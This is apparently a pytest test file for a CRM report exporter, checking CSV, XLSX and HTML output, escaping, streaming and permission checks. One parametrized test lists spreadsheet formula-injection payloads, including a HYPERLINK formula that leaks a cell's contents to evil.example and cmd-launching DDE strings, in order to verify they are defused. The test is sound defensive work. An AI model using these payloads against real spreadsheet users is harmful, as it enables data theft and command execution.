"""Exports read back: CSV through the csv module, XLSX through openpyxl, HTML through
the standard HTML parser."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from crm_core.auth.model import ROLE_PERMISSIONS, Actor, Role
from crm_core.errors import Forbidden
from crm_core.reports.export import ExportFormat, export_table, open_writer
from crm_core.reports.model import Cell, Column, Table

ID = uuid.UUID(int=7)
MOMENT = datetime(2026, 1, 5, 9, 30, tzinfo=UTC)
TABLE = Table(
    title="Appeals by topic",
    columns=(Column(name="topic", label="Тема"), Column(name="n", label="Count"),
             Column(name="sum", label="Sum"), Column(name="at", label="At"),
             Column(name="day", label="Day"), Column(name="ok", label="OK"),
             Column(name="id", label="Id"), Column(name="none", label="None")),
    rows=(("Жалоба <b>&", 3, Decimal("10.50"), MOMENT, date(2026, 1, 2), True, ID,
           None),
          ("=1+2", 0, Decimal(0), MOMENT, date(2026, 1, 3), False, ID, None)),
)  # fmt: skip


def actor(role: Role = Role.SUPERVISOR) -> Actor:
    return Actor(
        user_id=uuid.uuid4(), login="x", role=role, permissions=ROLE_PERMISSIONS[role]
    )


def export(fmt: ExportFormat, *, bom: bool = False) -> bytes:
    out = io.BytesIO()
    export_table(actor(), TABLE, fmt, out, bom=bom)
    return out.getvalue()


def test_csv_reads_back_with_iso_dates_when_written() -> None:
    raw = export(ExportFormat.CSV)
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert rows == [
        ["Тема", "Count", "Sum", "At", "Day", "OK", "Id", "None"],
        ["Жалоба <b>&", "3", "10.50", "2026-01-05T09:30:00+00:00", "2026-01-02",
         "true", str(ID), ""],
        ["'=1+2", "0", "0", "2026-01-05T09:30:00+00:00", "2026-01-03", "false",
         str(ID), ""],
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"open")',
         '\'=HYPERLINK("http://evil.example/?"&A1,"open")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("+7 (495) 123-45-67", "+7 (495) 123-45-67"),
        ("-12.50", "-12.50"),
        ("a=b", "a=b"),
    ],
)  # fmt: skip
def test_csv_text_cell_is_guarded_when_a_spreadsheet_would_run_it(
    value: str, shown: str
) -> None:
    out = io.BytesIO()
    writer = open_writer(ExportFormat.CSV, out, (Column(name="v", label="v"),))
    writer.write([(value,), (-5,), (Decimal("-1.5"),)])
    writer.close()
    rows = list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))
    assert rows[1:] == [[shown], ["-5"], ["-1.5"]]


def test_csv_starts_with_a_bom_when_asked_for_excel() -> None:
    raw = export(ExportFormat.CSV, bom=True)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig").startswith("Тема,")


def test_xlsx_reads_back_typed_cells_and_keeps_formulas_as_text_when_written() -> None:
    book = load_workbook(io.BytesIO(export(ExportFormat.XLSX)), read_only=True)
    sheet = book["Appeals by topic"]
    rows = [tuple(c.value for c in row) for row in sheet.iter_rows()]
    book.close()
    assert rows[0] == ("Тема", "Count", "Sum", "At", "Day", "OK", "Id", "None")
    utc_wall_clock = MOMENT.replace(tzinfo=None)
    midnight = datetime.combine(date(2026, 1, 2), time())
    # read-only mode drops trailing empty cells, so the None column is absent
    assert rows[1][:7] == ("Жалоба <b>&", 3, 10.5, utc_wall_clock, midnight, True,
                           str(ID))  # fmt: skip
    assert rows[2][0] == "=1+2"


def test_xlsx_formula_like_text_keeps_its_quote_prefix_when_written() -> None:
    book = load_workbook(io.BytesIO(export(ExportFormat.XLSX)))
    sheet = book["Appeals by topic"]
    formula, plain = sheet["A3"], sheet["A2"]
    assert (formula.value, formula.data_type) == ("=1+2", "s")
    assert formula.quotePrefix
    assert not plain.quotePrefix


class _Cells(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self._in_cell = False

    def handle_starttag(self, tag: str, attrs: object) -> None:
        if tag == "tr":
            self.rows.append([])
        self._in_cell = tag in {"td", "th"}
        if self._in_cell:
            self.rows[-1].append("")

    def handle_endtag(self, tag: str) -> None:
        self._in_cell = False

    def handle_data(self, data: str) -> None:
        if self._in_cell:
            self.rows[-1][-1] += data


def test_html_escapes_markup_and_parses_back_when_written() -> None:
    raw = export(ExportFormat.HTML).decode()
    assert "<b>" not in raw.split("<tbody>")[1]
    parser = _Cells()
    parser.feed(raw)
    assert parser.rows[0][0] == "Тема"
    assert parser.rows[1][:3] == ["Жалоба <b>&", "3", "10.50"]
    assert len(parser.rows) == 3


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_writer_streams_many_batches_when_rows_arrive_in_pieces(
    fmt: ExportFormat,
) -> None:
    out = io.BytesIO()
    writer = open_writer(fmt, out, TABLE.columns[:2], title="Big")
    for start in range(0, 3000, 1000):
        batch: list[tuple[Cell, ...]] = [
            (f"t{i}", i) for i in range(start, start + 1000)
        ]
        writer.write(batch)
    writer.close()
    if fmt is ExportFormat.XLSX:
        book = load_workbook(io.BytesIO(out.getvalue()), read_only=True)
        rows = list(book["Big"].iter_rows(values_only=True))
        assert len(rows) == 3001
        assert rows[-1] == ("t2999", 2999)
        book.close()
    else:
        assert out.getvalue().decode().count("t2999") == 1


def test_export_is_refused_when_the_actor_lacks_the_right() -> None:
    with pytest.raises(Forbidden):
        export_table(actor(Role.AGENT), TABLE, ExportFormat.CSV, io.BytesIO())


def test_durations_and_wall_clock_times_read_back_when_a_report_chooses_them() -> None:
    columns = (Column(name="took", label="Took"), Column(name="at", label="At"))
    rows: list[tuple[Cell, ...]] = [
        (timedelta(seconds=3725), MOMENT.replace(tzinfo=None)),
        (timedelta(seconds=-65), MOMENT.replace(tzinfo=None)),
    ]
    sheet, flat = io.BytesIO(), io.BytesIO()
    for fmt, out in ((ExportFormat.XLSX, sheet), (ExportFormat.CSV, flat)):
        writer = open_writer(fmt, out, columns)
        writer.write(rows)
        writer.close()

    book = load_workbook(io.BytesIO(sheet.getvalue()), read_only=True)
    assert list(book.worksheets[0].iter_rows(values_only=True))[1:] == rows
    assert list(csv.reader(io.StringIO(flat.getvalue().decode())))[1:] == [
        ["1:02:05", "2026-01-05T09:30:00"],
        ["-0:01:05", "2026-01-05T09:30:00"],
    ]
